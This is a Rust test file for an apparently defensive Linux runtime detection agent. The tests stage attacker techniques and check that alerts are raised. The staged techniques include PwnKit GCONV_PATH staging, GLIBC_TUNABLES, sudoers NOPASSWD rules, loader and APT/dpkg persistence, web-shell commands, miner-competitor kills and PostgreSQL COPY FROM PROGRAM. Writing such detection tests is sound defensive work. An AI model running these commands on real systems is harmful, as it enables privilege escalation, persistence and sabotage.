    clean.dirs(&provider_dir);
    let provider = clean.file(provider_dir.join("provider.so"));
    let built = Command::new("gcc")
        .args(["-shared", "-fPIC", "-o", &provider, &provider_source])
        .status()
        .expect("gcc");
    assert!(built.success(), "gcc built the provider");
    expect(
        run(Command::new("ssh-keygen").args(["-D", &provider])),
        "ssh-keygen -D /tmp/DIR/provider.so",
        "evasion-ssh-pkcs11-library",
        SeverityLabel::High,
    );
    if !Path::new(&marker).exists() {
        eprintln!("ssh-keygen -D: this OpenSSH did not load the provider (the exec was judged)");
    }
}

/// Elastic's "Potential Linux Tunneling and/or Port Forwarding", as a forwarder of its own
/// runs it: a python script given chisel's remote form (`client 127.0.0.1:PORT
/// R:127.0.0.1:P:127.0.0.1:22`; it tries its server, which is closed, and exits) raises
/// `tool-port-forward-spec`; ssh with a local forward of the same form does not (its forwards
/// are an administrator's).
#[test]
fn a_port_forward_given_to_a_program_other_than_ssh() {
    if !privileged("a_port_forward_given_to_a_program_other_than_ssh") {
        return;
    }
    let dir = Scratch::new("port-forward");
    let closed = std::net::TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .expect("a free port")
        .port()
        .to_string();
    let forwards = |found: &[Finding]| {
        of(found, "tool-port-forward-spec")
            .iter()
            .map(|f| (f.finding_type.clone(), f.severity_label))
            .collect::<Vec<_>>()
    };
    let script = dir.path("fwd.py");
    std::fs::write(
        &script,
        "import socket, sys\n\
         host, port = sys.argv[2].rsplit(':', 1)\n\
         try:\n    socket.create_connection((host, int(port)), timeout=2)\n\
         except OSError:\n    sys.exit(1)\n",
    )
    .expect("the forwarder");
    let server = format!("127.0.0.1:{closed}");
    // Each program of the chain that starts python with these arguments (a version manager's
    // `env`, then python) is one; shells are not.
    let found = forwards(&detect(run(Command::new("python3").args([
        &script,
        "client",
        &server,
        "R:127.0.0.1:18999:127.0.0.1:22",
    ]))));
    assert!(
        !found.is_empty()
            && found.iter().all(|(t, label)| {
                t == "Execution:Runtime/SuspiciousTool" && *label == SeverityLabel::Medium
            }),
        "a forwarder given R:ADDR:PORT:ADDR:PORT: {found:?}"
    );
    let Ok(ssh) = which("ssh") else {
        not_tested("NOT TESTED ssh -L ADDR:PORT:ADDR:PORT: no ssh client on this machine");
        return;
    };
    let found = detect(run(Command::new(&ssh).args([
        "-o",
        "BatchMode=yes",
        "-o",
        "StrictHostKeyChecking=no",
        "-o",
        "UserKnownHostsFile=/dev/null",
        "-o",
        "ConnectTimeout=2",
        "-N",
        "-L",
        "127.0.0.1:18999:127.0.0.1:22",
        "-p",
        &closed,
        "elastic@127.0.0.1",
    ])));
    assert!(
        forwards(&found).is_empty(),
        "ssh -L ADDR:PORT:ADDR:PORT: {:?}",
        kinds(&found)
    );
}

/// Falco's "Potential Local Privilege Escalation via Environment Variables Misuse": `sh -c id`
/// started with `GLIBC_TUNABLES` set (the variable of CVE-2023-4911) raises
/// `behaviour-glibc-tunables`, read by the kernel from the new image's environment; the same
/// command without it raises nothing.
#[test]
fn a_program_started_with_glibc_tunables() {
    if !privileged("a_program_started_with_glibc_tunables") {
        return;
    }
    let tuned = |set: bool| {
        let mut cmd = Command::new("/bin/sh");
        cmd.args(["-c", "id"]);
        if set {
            cmd.env(
                "GLIBC_TUNABLES",
                "glibc.tune.hwcaps=-WAITED,glibc.tune.secrets=2",
            );
        } else {
            cmd.env_remove("GLIBC_TUNABLES");
        }
        let found = detect(run(&mut cmd));
        of(&found, "behaviour-glibc-tunables")
            .iter()
            .map(|f| (f.finding_type.clone(), f.severity_label))
            .collect::<Vec<_>>()
    };
    let with = tuned(true);
    assert!(!with.is_empty(), "sh -c id with GLIBC_TUNABLES: nothing");
    assert!(
        with.iter().all(
            |(t, l)| t == "PrivilegeEscalation:Runtime/SuspiciousCommand"
                && *l == SeverityLabel::Low
        ),
        "{with:?}"
    );
    assert!(tuned(false).is_empty());
}

/// PwnKit's (CVE-2021-4034) shape: a setuid program exec'd with an empty argument vector
/// (`execve(path, {NULL}, envp)`; the kernel hands it one empty string), here by perl's
/// `exec { PATH } ()` on a setuid copy of `true`: `behaviour-exec-empty-argv` High, judged by
/// the file's mode, not its name. The same with an empty `argv[0]` for a plain program:
/// Medium. A program given its name as `argv[0]`: nothing.
#[test]
fn a_setuid_program_started_with_an_empty_argument_vector() {
    if !privileged("a_setuid_program_started_with_an_empty_argument_vector") {
        return;
    }
    let scratch = Scratch::new("argv0");
    let program = scratch.path("helper");
    std::fs::copy("/bin/true", &program).expect("copy true");
    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o4755))
        .expect("setuid mode");
    let raised = |script: String| {
        let found = detect(run(Command::new("perl").args(["-e", &script])));
        of(&found, "behaviour-exec-empty-argv")
            .iter()
            .map(|f| {
                assert_eq!(
                    f.finding_type,
                    "PrivilegeEscalation:Runtime/SuspiciousCommand"
                );
                (
                    f.context.additional["argumentVector"].clone(),
                    f.severity_label,
                )
            })
            .collect::<Vec<_>>()
    };
    assert_eq!(
        raised(format!("exec {{ '{program}' }} ()")),
        [("empty".to_owned(), SeverityLabel::High)],
        "a setuid program with no arguments"
    );
    assert_eq!(
        raised("exec { '/bin/true' } ('')".to_owned()),
        [("empty".to_owned(), SeverityLabel::Medium)],
        "true with an empty argv[0]"
    );
    assert_eq!(
        raised(format!("exec {{ '{program}' }} ('helper', '')")),
        [],
        "a setuid program given its name"
    );
}

/// PwnKit's staging as its public exploits do it, as a script: a directory named
/// `GCONV_PATH=.` holding an executable, and an iconv module list `pwnkit/gconv-modules`
/// naming a module of its own: `behaviour-gconv-modules-written` (High) for the list written
/// outside the C library's directories. A file that only starts with the name raises nothing.
#[test]
fn an_iconv_module_list_staged_outside_the_c_librarys_directories() {
    if !privileged("an_iconv_module_list_staged_outside_the_c_librarys_directories") {
        return;
    }
    let dir = Scratch::new("gconv");
    let stage = |body: &str| {
        let script = dir.path("stage.sh");
        std::fs::write(&script, body).expect("script");
        detect(run(Command::new("/bin/sh")
            .arg(&script)
            .current_dir(&dir.0)))
    };
    let found = stage(
        "mkdir -p 'GCONV_PATH=.' pwnkit\ntouch 'GCONV_PATH=./pwnkit'\nchmod a+x 'GCONV_PATH=./pwnkit'\n\
         echo 'module UTF-8// PWNKIT// pwnkit 2' > pwnkit/gconv-modules\n",
    );
    let f = of(&found, "behaviour-gconv-modules-written");
    assert_eq!(f.len(), 1, "{:?}", kinds(&found));
    assert_eq!(
        f[0].finding_type,
        "PrivilegeEscalation:Runtime/SuspiciousCommand"
    );
    assert_eq!(f[0].severity_label, SeverityLabel::High);
    assert_eq!(
        f[0].context.file_path.as_deref(),
        Some(dir.path("pwnkit/gconv-modules").as_str())
    );
    let found = stage("mkdir -p notes\necho x > notes/gconv-modules.txt\n");
    assert!(
        of(&found, "behaviour-gconv-modules-written").is_empty(),
        "{:?}",
        kinds(&found)
    );
}

/// Elastic's Red Team Automation (`rta/linux_persistence_apt_package_manager_execution.py`, the
/// dpkg maintainer-script one) as the real attack does it: an APT hook that runs a command at
/// every `apt update`, and an executable dropped among dpkg's maintainer scripts, each run as
/// root at the next install. Reading them, and APT's other files, raise nothing.
#[test]
fn package_manager_hooks_and_maintainer_scripts_written_as_persistence() {
    if !privileged("package_manager_hooks_and_maintainer_scripts_written_as_persistence") {
        return;
    }
    let n = nonce();
    let mut clean = Cleanup::default();
    let scratch = Scratch::new("pkghook");
    let hook = clean.file(format!("/etc/apt/apt.conf.d/99vigil-{n}"));
    let script = clean.file(format!("/var/lib/dpkg/info/vigil-{n}.postinst"));
    for (what, line, path) in [
        (
            "an APT hook written by a shell",
            format!("printf 'APT::Update::Pre-Invoke {{\"/bin/true\";}};\\n' > {hook}\n"),
            &hook,
        ),
        (
            "an executable copied among dpkg's maintainer scripts",
            format!("cp /bin/true {script}\n"),
            &script,
        ),
    ] {
        let pid = sh_file(&scratch, "persist.sh", &line);
        let found = detect(pid);
        expect_persistence(
            &found,
            "behaviour-persistence-package-hook",
            "package",
            path,
            what,
        );
    }
    let pid = sh_file(
        &scratch,
        "read.sh",
        &format!(
            "cat {hook} /etc/apt/apt.conf.d/* {script} >/dev/null 2>&1; ls /var/lib/dpkg/info >/dev/null\n"
        ),
    );
    assert!(detect(pid).is_empty(), "reads");
}

/// A program run through the dynamic loader (Elastic's RTA
/// `linux_defense_evasion_proxy_execution_via_ld_so`, GTFOBins' `ld.so`): the kernel execs the
/// loader, which maps the program itself. `ldd` doing the same to list a program's libraries,
/// and the loader's `--list`, raise nothing.
#[test]
fn a_program_run_through_the_dynamic_loader() {
    if !privileged("a_program_run_through_the_dynamic_loader") {
        return;
    }
    let Some(loader) = ["/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1"]
        .into_iter()
        .find(|l| Path::new(l).exists())
    else {
        panic!("no dynamic loader at a known path on this machine");
    };
    let pid = sh(&format!("{loader} /bin/sh -c true"));
    let found = detect(pid);
    let f = of(&found, "behaviour-loader-proxy");
    assert_eq!(f.len(), 1, "{:?}", kinds(&found));
    assert_eq!(
        f[0].finding_type,
        "DefenseEvasion:Runtime/SuspiciousCommand"
    );
    assert_eq!(f[0].severity_label, SeverityLabel::Medium);
    assert_eq!(
        f[0].context
            .additional
            .get("loadedProgram")
            .map(String::as_str),
        Some("/bin/sh")
    );
    for benign in [
        "ldd /bin/true >/dev/null".to_owned(),
        format!("{loader} --list /bin/true >/dev/null"),
        format!("{loader} --verify /bin/true"),
    ] {
        let pid = sh(&benign);
        assert!(
            of(&detect(pid), "behaviour-loader-proxy").is_empty(),
            "{benign}"
        );
    }
}

/// Tracee's "sudoers file modification" as attackers do it (T1548.003): a rule giving root
/// written into `/etc/sudoers.d/` by `tee`, python, `cp`, `sed -i`, `dd`, a shell's redirection
/// through a relative path (each a line of a script file: no argv names the file the way the
/// command rule reads it). Each raises `behaviour-sudoers-modified` naming the file. Reading the
/// policy raises no change. (The directory is made when this host has none, and removed.)
#[test]
fn the_sudo_policy_written_by_any_program() {
    if !privileged("the_sudo_policy_written_by_any_program") {
        return;
    }
    let n = nonce();
    let mut clean = Cleanup::default();
    clean.dirs(Path::new("/etc/sudoers.d"));
    let scratch = Scratch::new("sudoers");
    let line = "vigil-nobody ALL=(ALL) NOPASSWD:ALL";
    let src = scratch.path("rule");
    std::fs::write(&src, format!("{line}\n")).expect("rule");
    let file =
        |clean: &mut Cleanup, how: &str| clean.file(format!("/etc/sudoers.d/vigil-{n}-{how}"));
    let sed_target = file(&mut clean, "sed");
    std::fs::write(&sed_target, "# vigil\n").expect("sed target");
    let forms = [
        (
            "tee",
            file(&mut clean, "tee"),
            format!("echo '{line}' | tee FILE > /dev/null\n"),
        ),
        (
            "python3",
            file(&mut clean, "py"),
            format!("python3 -c \"open('FILE', 'w').write('{line}\\n')\"\n"),
        ),
        ("cp", file(&mut clean, "cp"), format!("cp {src} FILE\n")),
        (
            "sed",
            sed_target.clone(),
            format!("sed -i '$ a {line}' FILE\n"),
        ),
        (
            "dd",
            file(&mut clean, "dd"),
            format!("echo '{line}' | dd of=FILE status=none\n"),
        ),
        (
            "relative",
            file(&mut clean, "rel"),
            format!("cd /etc/sudoers.d\necho '{line}' > vigil-{n}-rel\n"),
        ),
    ];
    for (how, path, script) in &forms {
        let pid = sh_file(
            &scratch,
            &format!("{how}.sh"),
            &script.replace("FILE", path),
        );
        let found = detect(pid);
        let f = of(&found, "behaviour-sudoers-modified");
        // `sed -i` writes a temporary file beside the policy, then renames it over it: both.
        assert!(
            f.iter()
                .any(|f| f.context.file_path.as_deref() == Some(path.as_str())),
            "{how}: {:?}",
            kinds(&found)
        );
        for f in f {
            assert_eq!(
                f.finding_type, "PrivilegeEscalation:Runtime/SuspiciousCommand",
                "{how}"
            );
        }
    }
    let found = detect(sh_file(
        &scratch,
        "read.sh",
        &format!("cat /etc/sudoers.d/vigil-{n}-tee > /dev/null\n"),
    ));
    // (Reading it is the command rule `discovery-sudoers-read`'s, Sigma's; it changes nothing.)
    assert!(
        of(&found, "behaviour-sudoers-modified").is_empty()
            && !found
                .iter()
                .any(|f| f.finding_type.ends_with("SensitiveFileModified")),
        "reading: {:?}",
        kinds(&found)
    );
}

/// Tracee's "default dynamic loader modification" (T1574.006): the loader opened for writing by
/// the path programs use (`/lib64/ld-linux-x86-64.so.2`, a link) and by its real paths, from a
/// shell's redirection, `tee -a`, `dd` and python. Every program on the machine runs through
/// this file, so each opens it for appending and writes nothing (its bytes and times stay as
/// they were). And the loader's search path: a file written into `/etc/ld.so.conf.d/` (removed
/// before anything runs `ldconfig`). Reading the loader raises nothing.
#[test]
fn the_dynamic_loader_and_its_search_path_written() {
    if !privileged("the_dynamic_loader_and_its_search_path_written") {
        return;
    }
    let loader = std::fs::canonicalize("/lib64/ld-linux-x86-64.so.2")
        .expect("this test needs the x86-64 loader")
        .display()
        .to_string();
    let scratch = Scratch::new("loader");
    let forms = [
        ("redirection", ": >> /lib64/ld-linux-x86-64.so.2\n".to_owned()),
        ("tee", format!("tee -a {loader} < /dev/null > /dev/null\n")),
        (
            "dd",
            "dd if=/dev/null of=/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2 conv=notrunc oflag=append status=none\n"
                .to_owned(),
        ),
        (
            "python3",
            "python3 -c \"open('/lib64/ld-linux-x86-64.so.2', 'ab').close()\"\n".to_owned(),
        ),
    ];
    for (how, script) in &forms {
        let found = detect(sh_file(&scratch, &format!("{how}.sh"), script));
        let f = of(&found, "behaviour-loader-modified");
        assert!(!f.is_empty(), "{how}: {:?}", kinds(&found));
        assert_eq!(
            f[0].finding_type,
            "DefenseEvasion:Runtime/SuspiciousCommand"
        );
        assert_eq!(f[0].severity_label, SeverityLabel::High);
        assert_eq!(
            f[0].context.file_path.as_deref(),
            Some(loader.as_str()),
            "{how}"
        );
    }
    let found = detect(sh_file(
        &scratch,
        "read.sh",
        "cat /lib64/ld-linux-x86-64.so.2 > /dev/null\n/bin/true\n",
    ));
    assert!(found.is_empty(), "reading: {:?}", kinds(&found));

    let mut clean = Cleanup::default();
    let conf = clean.file(format!("/etc/ld.so.conf.d/vigil-{}.conf", nonce()));
    let found = detect(sh_file(
        &scratch,
        "conf.sh",
        &format!("echo /dev/shm/lib > {conf}\n"),
    ));
    let f = of(&found, "behaviour-loader-config-modified");
    assert_eq!(f.len(), 1, "{:?}", kinds(&found));
    assert_eq!(f[0].severity_label, SeverityLabel::Medium);
    assert_eq!(f[0].context.file_path.as_deref(), Some(conf.as_str()));
}

/// Tracee's "rcd modification" and "scheduled task modification": a link to an init script made
/// in a runlevel directory (`/etc/rc2.d/S99...`), and a job appended to anacron's table, each a
/// line of a script. Benign: `update-rc.d` linking a script into the runlevel directories (its
/// job; the script itself is put in place by the test, outside the tree judged).
#[test]
fn runlevel_links_and_anacron_jobs_written_as_persistence() {
    if !privileged("runlevel_links_and_anacron_jobs_written_as_persistence") {
        return;
    }
    let n = nonce();
    let scratch = Scratch::new("rcd");
    let mut clean = Cleanup::default();
    let link = clean.file(format!("/etc/rc2.d/S99vigil-{n}"));
    let found = detect(sh_file(
        &scratch,
        "link.sh",
        &format!("ln -s ../init.d/vigil-{n} {link}\n"),
    ));
    expect_persistence(&found, "behaviour-persistence-init", "init", &link, "ln -s");

    let anacrontab = Path::new("/etc/anacrontab");
    let before = std::fs::read(anacrontab).ok();
    struct PutBack(Option<Vec<u8>>);
    impl Drop for PutBack {
        fn drop(&mut self) {
            match &self.0 {
                Some(bytes) => {
                    let _ = std::fs::write("/etc/anacrontab", bytes);
                }
                None => {
                    let _ = std::fs::remove_file("/etc/anacrontab");
                }
            }
        }
    }
    let _put_back = PutBack(before);
    let found = detect(sh_file(
        &scratch,
        "anacron.sh",
        &format!("echo '1 5 vigil-{n} /bin/true' >> /etc/anacrontab\n"),
    ));
    expect_persistence(
        &found,
        "behaviour-persistence-cron",
        "cron",
        "/etc/anacrontab",
        "append",
    );

    if Path::new("/usr/sbin/update-rc.d").exists() {
        let name = format!("vigil-{n}");
        let script = clean.file(format!("/etc/init.d/{name}"));
        std::fs::write(
            &script,
            format!(
                "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: {name}\n# Required-Start:\n\
                 # Required-Stop:\n# Default-Start: 2 3 4 5\n# Default-Stop: 0 1 6\n\
                 ### END INIT INFO\nexit 0\n"
            ),
        )
        .expect("init script");
        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).expect("chmod");
        for level in ["0", "1", "2", "3", "4", "5", "6"] {
            for prefix in ["S01", "K01", "S02", "K02", "S99"] {
                clean.file(format!("/etc/rc{level}.d/{prefix}{name}"));
            }
        }
        let found = detect(run(
            Command::new("/usr/sbin/update-rc.d").args([&name, "defaults"])
        ));
        assert!(
            of(&found, "behaviour-persistence-init").is_empty(),
            "update-rc.d: {:?}",
            kinds(&found)
        );
        let _ = Command::new("/usr/sbin/update-rc.d")
            .args(["-f", &name, "remove"])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status();
    }
}

/// Tracee's "web server spawned a shell" as a web shell does it: the server (a copy of perl
/// named nginx, and one named php-fpm8.2) has a shell run a command string
/// (`system("/bin/sh", "-c", "id; uname -a")`, what PHP's `system()` and backticks do):
/// `behaviour-shell-from-web-server`, naming the server. Benign: the same server running a
/// helper through a shell (Apache's piped logs: `exec rotatelogs ...`, not installed here, so
/// nothing else runs), and a shell command string from a program that is not a web server.
#[test]
fn a_web_server_having_a_shell_run_a_command() {
    if !privileged("a_web_server_having_a_shell_run_a_command") {
        return;
    }
    let scratch = Scratch::new("webshell");
    let perl = std::fs::canonicalize("/usr/bin/perl").expect("perl");
    for server in ["nginx", "php-fpm8.2"] {
        let copy = scratch.path(server);
        std::fs::copy(&perl, &copy).expect("copy perl");
        std::fs::set_permissions(&copy, std::fs::Permissions::from_mode(0o755)).expect("chmod");
        let found = detect(run(
            Command::new(&copy).args(["-e", "system('/bin/sh', '-c', 'id; uname -a')"])
        ));
        let f = of(&found, "behaviour-shell-from-web-server");
        assert_eq!(f.len(), 1, "{server}: {:?}", kinds(&found));
        assert_eq!(
            f[0].finding_type,
            "Execution:Runtime/SuspiciousShellCreated"
        );
        assert_eq!(
            f[0].context
                .additional
                .get("shellStartedBy")
                .map(String::as_str),
            Some(copy.as_str()),
            "{server}"
        );
        let found = detect(run(Command::new(&copy).args([
            "-e",
            "system('/bin/sh', '-c', 'exec /usr/sbin/rotatelogs /var/log/vigil-x 86400')",
        ])));
        assert!(found.is_empty(), "{server} mail(): {:?}", kinds(&found));
    }
    let found = detect(run(
        Command::new(&perl).args(["-e", "system('/bin/sh', '-c', 'id; uname -a')"])
    ));
    assert!(
        of(&found, "behaviour-shell-from-web-server").is_empty(),
        "perl: {:?}",
        kinds(&found)
    );
}

/// A web application in an interpreter (python here; gunicorn, flask and Tomcat's `java` are
/// the same to the kernel) is known by the TCP connection it accepted, not by name: a request
/// on loopback asks it to run `id; uname -a` through a shell (`subprocess.run(..., shell=True)`)
/// and `id` without one. Raises `behaviour-shell-from-web-server` (the shell, Low, naming the
/// server) and `behaviour-web-server-recon` (High) for each reconnaissance program. The same
/// python running the same commands without having accepted a connection (a script) raises
/// neither, and the serving python running `git --version` through a shell raises nothing at
/// Medium or above.
#[test]
fn an_interpreter_web_application_running_a_web_shell() {
    if !privileged("an_interpreter_web_application_running_a_web_shell") {
        return;
    }
    // One process: it listens, its own thread connects and sends the command, then it
    // accepts and runs what it read, as a web shell's handler does.
    let server = |commands: &str| -> String {
        format!(
            r#"import socket, subprocess, threading
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(1)
port = s.getsockname()[1]
def client():
    c = socket.create_connection(("127.0.0.1", port)); c.sendall(b"{commands}\n"); c.close()
threading.Thread(target=client).start()
conn, _ = s.accept()
line = conn.makefile().readline().strip()
subprocess.run(line, shell=True, stdout=subprocess.DEVNULL)
if line.startswith("id"):
    subprocess.run(["id"], stdout=subprocess.DEVNULL)
"#
        )
    };
    let script = |commands: &str| -> String {
        format!(
            "import subprocess\nsubprocess.run({commands:?}, shell=True, stdout=subprocess.DEVNULL)\nsubprocess.run(['id'], stdout=subprocess.DEVNULL)\n"
        )
    };
    let found = detect(run(
        Command::new("python3").args(["-c", &server("id; uname -a")])
    ));
    let shells = of(&found, "behaviour-shell-from-web-server");
    assert_eq!(shells.len(), 1, "{:?}", kinds(&found));
    assert_eq!(
        shells[0].finding_type,
        "Execution:Runtime/SuspiciousShellCreated"
    );
    assert!(
        shells[0]
            .context
            .additional
            .get("shellStartedBy")
            .is_some_and(|exe| exe.contains("python3")),
        "{:?}",
        shells[0].context.additional
    );
    let recon = of(&found, "behaviour-web-server-recon");
    let mut programs: Vec<&str> = recon
        .iter()
        .map(|f| f.context.file_path.as_deref().unwrap_or_default())
        .collect();
    programs.sort();
    assert_eq!(
        programs,
        ["/usr/bin/id", "/usr/bin/uname"],
        "{:?}",
        kinds(&found)
    );
    for f in &recon {
        assert_eq!(f.finding_type, "Execution:Runtime/SuspiciousCommand");
        assert_eq!(f.severity_label, SeverityLabel::High);
        assert!(f.count >= 1);
    }

    let found = detect(run(
        Command::new("python3").args(["-c", &script("id; uname -a")])
    ));
    assert!(
        of(&found, "behaviour-shell-from-web-server").is_empty()
            && of(&found, "behaviour-web-server-recon").is_empty(),
        "a script: {:?}",
        kinds(&found)
    );
    let found = detect(run(
        Command::new("python3").args(["-c", &server("git --version")])
    ));
    assert!(
        found
            .iter()
            .all(|f| f.severity_label < SeverityLabel::Medium),
        "git: {:?}",
        kinds(&found)
    );
}

/// Competing miners killed through a process listing, as miner droppers' scripts start:
/// `ps aux | grep -v grep | grep '[x]mrig' | awk '{print $2}' | xargs -r kill -9` and
/// `pgrep -f kinsing | xargs -r kill -9` (nothing by those names runs here: xargs runs no kill,
/// the attempt is what raises). The name is only in grep's or pgrep's argv and the kill only in
/// xargs': `behaviour-miner-competitor-kill` (Medium) from the pipes between them, with the
/// miner's name. The same pipeline searching for a process that is no miner raises nothing of
/// it, nor a search that kills nothing.
#[test]
fn competing_miners_killed_through_a_process_listing() {
    if !privileged("competing_miners_killed_through_a_process_listing") {
        return;
    }
    let kills = |found: &[Finding]| -> Vec<(String, SeverityLabel)> {
        of(found, "behaviour-miner-competitor-kill")
            .into_iter()
            .map(|f| {
                assert_eq!(f.finding_type, "Execution:Runtime/SuspiciousCommand");
                (
                    f.context
                        .additional
                        .get("minerName")
                        .cloned()
                        .unwrap_or_default(),
                    f.severity_label,
                )
            })
            .collect()
    };
    let found = detect(sh(
        "ps aux | grep -v grep | grep '[x]mrig' | awk '{print $2}' | xargs -r kill -9",
    ));
    assert_eq!(
        kills(&found),
        [("xmrig".to_owned(), SeverityLabel::Medium)],
        "{:?}",
        kinds(&found)
    );
    let found = detect(sh("pgrep -f kinsing | xargs -r kill -9"));
    assert_eq!(
        kills(&found),
        [("kinsing".to_owned(), SeverityLabel::Medium)],
        "{:?}",
        kinds(&found)
    );
    for benign in [
        "ps aux | grep -v grep | grep '[n]ginx-vigil' | awk '{print $2}' | xargs -r kill -9",
        "ps aux | grep -v grep | grep xmrig | awk '{print $2}' | wc -l",
    ] {
        let found = detect(sh(benign));
        assert!(kills(&found).is_empty(), "{benign}: {:?}", kinds(&found));
    }
}

/// The newest PostgreSQL server the distribution's packages installed
/// (`/usr/lib/postgresql/N/bin`, Debian's layout; scripts/bootstrap.sh installs `postgresql`).
fn postgresql_bin() -> PathBuf {
    let mut versions: Vec<(u32, PathBuf)> = std::fs::read_dir("/usr/lib/postgresql")
        .into_iter()
        .flatten()
        .flatten()
        .filter_map(|d| {
            let version = d.file_name().to_str()?.parse().ok()?;
            let bin = d.path().join("bin");
            bin.join("postgres").is_file().then_some((version, bin))
        })
        .collect();
    versions.sort();
    versions
        .pop()
        .map(|(_, bin)| bin)
        .expect("PostgreSQL is not installed (/usr/lib/postgresql/N/bin): scripts/bootstrap.sh installs the postgresql package")
}

/// The postgres account's uid and gid (the package creates it; the server refuses root).
fn postgres_account() -> (u32, u32) {
    let passwd = std::fs::read_to_string("/etc/passwd").expect("/etc/passwd");
    passwd
        .lines()
        .find_map(|l| {
            let f: Vec<&str> = l.split(':').collect();
            (f.first() == Some(&"postgres") && f.len() > 3)
                .then(|| Some((f[2].parse().ok()?, f[3].parse().ok()?)))
                .flatten()
        })
        .expect("no postgres account: scripts/bootstrap.sh installs the postgresql package")
}

/// A scratch PostgreSQL cluster served in the foreground by the postgres account, on a unix
/// socket in its scratch directory only (no TCP). Dropping it stops the server (a fast
/// shutdown, SIGINT), also when the test fails, then removes the directory.
struct Postgres {
    server: Option<std::process::Child>,
    bin: PathBuf,
    // Dropped after the server has stopped (fields drop in order).
    dir: Scratch,
}

impl Postgres {
    /// `settings` are `-c name=value` for the server.
    fn start(tag: &str, settings: &[String]) -> Self {
        LazyLock::force(&AGENT);
        let bin = postgresql_bin();
        let (uid, gid) = postgres_account();
        let dir = Scratch::new(tag);
        let data = dir.0.join("data");
        std::fs::create_dir(&data).expect("data dir");
        std::fs::set_permissions(&data, std::fs::Permissions::from_mode(0o700)).expect("chmod");
        for p in [&dir.0, &data] {
            std::os::unix::fs::chown(p, Some(uid), Some(gid)).expect("chown to postgres");
        }
        let initdb = Command::new(bin.join("initdb"))
            .args([
                "-D",
                &dir.path("data"),
                "-U",
                "postgres",
                "--auth=trust",
                "-N",
            ])
            .uid(uid)
            .gid(gid)
            .stdin(Stdio::null())
            .output()
            .expect("initdb");
        assert!(
            initdb.status.success(),
            "initdb: {}",
            String::from_utf8_lossy(&initdb.stderr)
        );
        let mut server = Command::new(bin.join("postgres"));
        server
            .args([
                "-D",
                &dir.path("data"),
                "-k",
                &dir.path(""),
                "-c",
                "listen_addresses=",
            ])
            .args(["-c", "fsync=off"]);
        for s in settings {
            server.args(["-c", s]);
        }
        let log = std::fs::File::create(dir.0.join("server.log")).expect("server log");
        let server = server
            .uid(uid)
            .gid(gid)
            .stdin(Stdio::null())
            .stdout(log.try_clone().expect("log"))
            .stderr(log)
            .spawn()
            .expect("start postgres");
        let pg = Self {
            server: Some(server),
            bin,
            dir,
        };
        let deadline = Instant::now() + WAIT * 2;
        while !pg.sql("SELECT 1") {
            assert!(
                Instant::now() < deadline,
                "postgres did not accept connections: {}",
                std::fs::read_to_string(pg.dir.0.join("server.log")).unwrap_or_default()
            );
            std::thread::sleep(Duration::from_millis(200));
        }
        pg
    }

    /// Runs SQL as the postgres superuser through the socket; whether it succeeded.
    fn sql(&self, sql: &str) -> bool {
        Command::new(self.bin.join("psql"))
            .args([
                "-X",
                "-q",
                "-v",
                "ON_ERROR_STOP=1",
                "-h",
                &self.dir.path(""),
            ])
            .args(["-U", "postgres", "-d", "postgres", "-c", sql])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .is_ok_and(|s| s.success())
    }

    /// Stops the server; returns its pid, the root of the tree that holds its shells.
    fn stop(&mut self) -> u32 {
        let mut server = self.server.take().expect("running");
        let pid = server.id();
        // SAFETY: a signal to the child this test started and has not reaped.
        unsafe { libc::kill(pid as libc::pid_t, libc::SIGINT) };
        let _ = server.wait();
        pid
    }
}

impl Drop for Postgres {
    fn drop(&mut self) {
        if self.server.is_some() {
            self.stop();
        }
    }
}

/// Elastic's "remote code execution via PostgreSQL" as it is done: a superuser's
/// `COPY t FROM PROGRAM 'id'` on a real PostgreSQL server (Debian's package, a scratch cluster
/// on a unix socket), whose backend runs `sh -c id`: `behaviour-shell-from-database-server`,
/// naming the server. Benign: the same server archiving its log, `archive_command` run by the
/// archiver for `pg_switch_wal()` (`test ! -f ARCHIVE/%f && cp %p ARCHIVE/%f`), raises nothing.
#[test]
fn a_database_server_having_a_shell_run_a_command() {
    if !privileged("a_database_server_having_a_shell_run_a_command") {
        return;
    }
    let postgres = std::fs::canonicalize(postgresql_bin().join("postgres")).expect("postgres");
    let mut pg = Postgres::start("pg-copy", &[]);
    assert!(pg.sql("CREATE TABLE t (line text)"), "create table");
    assert!(pg.sql("COPY t FROM PROGRAM 'id'"), "COPY FROM PROGRAM");
    let found = detect(pg.stop());
    let f = of(&found, "behaviour-shell-from-database-server");
    assert_eq!(f.len(), 1, "{:?}", kinds(&found));
    assert_eq!(
        f[0].finding_type,
        "Execution:Runtime/SuspiciousShellCreated"
    );
    assert_eq!(
        f[0].context
            .additional
            .get("shellStartedBy")
            .map(String::as_str),
        Some(postgres.display().to_string().as_str())
    );

    let archive = Scratch::new("pg-archive");
    std::os::unix::fs::chown(&archive.0, Some(postgres_account().0), None).expect("chown");
    let a = archive.path("");
    let mut pg = Postgres::start(
        "pg-wal",
        &[
            "archive_mode=on".to_owned(),
            format!("archive_command=test ! -f {a}%f && cp %p {a}%f"),
        ],
    );
    assert!(
        pg.sql("CREATE TABLE t AS SELECT g FROM generate_series(1, 10000) g"),
        "writes"
    );
    assert!(pg.sql("SELECT pg_switch_wal()"), "pg_switch_wal");
    let segment = archive.0.join("000000010000000000000001");
    let deadline = Instant::now() + WAIT * 2;
    while !segment.exists() {
        assert!(Instant::now() < deadline, "the archiver archived nothing");
        std::thread::sleep(Duration::from_millis(200));
    }
    let found = detect(pg.stop());
    assert!(
        of(&found, "behaviour-shell-from-database-server").is_empty()
            && found
                .iter()
                .all(|f| f.severity_label < SeverityLabel::Medium),
        "archive_command: {:?}",
        kinds(&found)
    );
}

/// Tracee's "process standard input/output over socket" as the commonest reverse shell does it:
/// python connects to a listener (loopback here), `dup2`s the socket onto its standard input,
/// output and error and runs `pty.spawn("/bin/sh")`, which starts the shell on a terminal of its
/// own (so the shell's descriptors are not the socket). `Execution:Runtime/ReverseShell`
/// (`behaviour-reverse-shell-stdio-dup`) with the peer. The same python starting `id` instead
/// raises no reverse shell.
#[test]
